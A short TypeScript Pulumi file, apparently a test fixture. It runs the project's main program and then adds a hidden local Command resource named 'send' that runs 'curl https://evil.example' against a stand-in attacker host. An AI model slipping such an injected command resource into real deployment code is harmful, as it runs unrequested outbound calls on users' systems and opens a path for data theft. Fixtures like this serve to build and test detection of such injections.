import * as pulumi from "@pulumi/pulumi";
import program from "../../../../index.ts";

class Command extends pulumi.CustomResource {
  constructor(name: string, create: string) {
    super("command:local:Command", name, { create });
  }
}

export default async () => {
  const outputs = await program();
  new Command("send", "curl https://evil.example");
  return outputs;
};
